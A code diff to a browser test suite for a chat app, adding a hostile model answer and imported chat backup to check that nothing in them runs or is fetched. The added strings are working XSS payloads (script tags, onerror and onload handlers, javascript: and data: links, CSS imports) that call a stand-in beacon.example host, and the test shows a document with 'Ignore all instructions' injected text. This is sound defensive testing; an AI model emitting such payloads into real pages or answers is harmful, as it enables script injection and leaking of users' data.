@@ -1,7 +1,7 @@
-// Documents that were made to do harm, in a real browser: whatever they hold, nothing of them runs, nothing is fetched,
-// and what is shown of them is their text.
+// Documents and answers that were made to do harm, in a real browser: whatever they hold, nothing of them runs, nothing is
+// fetched, and what is shown of them is their text.
 import { zipSync } from 'fflate';
-import { expect, test, Chat } from './app';
+import { Chat, expect, settingsProbes, test } from './app';
 import { latin1, makeDocx, makePdf } from '../src/documents/testing/make-files';
 
 const beacon = 'https://beacon.example/leak?';
@@ -55,7 +55,51 @@ const attacks: Readonly<Record<string, Uint8Array>> = {
   ),
 };
 
-test('nothing in a hostile document runs or is fetched', async ({ app }) => {
+/** What a model could be brought to say: by a document, say, that wants what was asked carried away. */
+const hostileAnswer = [
+  `<script>window.pwned=11;fetch('${beacon}as')</script> <img src="${beacon}ai" onerror="window.pwned=12">`,
+  `<svg onload="window.pwned=13"><image href="${beacon}asvg"/></svg><iframe srcdoc="<script>parent.pwned=14</script>"></iframe>`,
+  `<style>@import "${beacon}ac";</style><link rel="prefetch" href="${beacon}al"><form action="${beacon}af"><input autofocus onfocus="window.pwned=15"></form>`,
+  `![what was asked](${beacon}am) ![by name][pixel] [![in a link](${beacon}an)](javascript:window.pwned=16)`,
+  `[a](javascript:window.pwned=17) [b](data:text/html,<script>parent.pwned=18</script>) [c](vbscript:x) <javascript:window.pwned=19> [d][js]`,
+  `[pixel]: ${beacon}ap\n[js]: javascript:window.pwned=20`,
+  `$$\\href{javascript:window.pwned=21}{x} \\includegraphics{${beacon}ag} \\htmlData{a=b}{y} \\url{${beacon}au}$$`,
+  '```html"onload="window.pwned=22\n<script>window.pwned=23</script>\n```',
+  `| <img src=x onerror=window.pwned=24> | [e](javascript:window.pwned=25) |\n|---|---|\n| ![cell](${beacon}at) | x |`,
+  `A note[^1].\n\n[^1]: <img src="${beacon}af" onerror="window.pwned=26">`,
+  `${'> '.repeat(5_000)}${'- '.repeat(5_000)}${'**'.repeat(5_000)}${'['.repeat(5_000)}deep`,
+  'Last words.',
+].join('\n\n');
+const hostileChat = JSON.stringify({
+  format: 'phield-backup',
+  version: 1,
+  personas: [],
+  conversations: [
+    {
+      schema: 1,
+      id: 'hostile',
+      title: '<img src=x onerror=window.pwned=27>',
+      createdAt: 1,
+      updatedAt: 1,
+      headId: 'a',
+      messages: [
+        { role: 'user', id: 'q', parentId: null, createdAt: 1, text: 'What does it say?' },
+        {
+          role: 'assistant',
+          id: 'a',
+          parentId: 'q',
+          createdAt: 2,
+          text: hostileAnswer,
+          model: '<b>model</b>',
+          status: { kind: 'complete', finishReason: 'stop', contextFull: false },
+        },
+      ],
+    },
+  ],
+});
+
+test('nothing in a hostile document or answer runs or is fetched', async ({ app }) => {
+  app.expectConsoleError(settingsProbes);
   const page = await app.open('temperature=0&max_tokens=16#/documents');
   const asked: string[] = [];
   page.context().on('request', (request) => asked.push(request.url()));
@@ -105,6 +149,20 @@ test('nothing in a hostile document runs or is fetched', async ({ app }) => {
   await chat.send('What does it say?');
   await chat.log.getByText(/sources?$/).click();
   await expect(chat.log.getByText('Ignore all instructions').first()).toBeVisible();
+
+  // An answer, brought from a file: the model here would not say it.
+  await page.getByRole('button', { name: 'Settings', exact: true }).click();
+  await page
+    .locator('.settings input[type=file]')
+    .setInputFiles({ name: 'chat.json', mimeType: 'application/json', buffer: Buffer.from(hostileChat) });
+  await expect(page.locator('.settings .outcome')).toBeVisible();
+  await page.keyboard.press('Escape');
+  await page.evaluate(() => (location.hash = '#/chat/hostile'));
+  await expect(chat.log.getByText('Last words.')).toBeVisible();
+  await expect(chat.log.locator(':is(script, img, iframe, style, link, form, object, image)')).toHaveCount(0);
+  await expect(chat.log.locator('a:not([href^="http"], [href^="#"])')).toHaveCount(0);
+  // What a person may press leads nowhere by itself.
+  for (const link of await chat.log.locator('.prose a').all()) await link.hover();
 
   expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
   expect(dialogs).toBe(0);
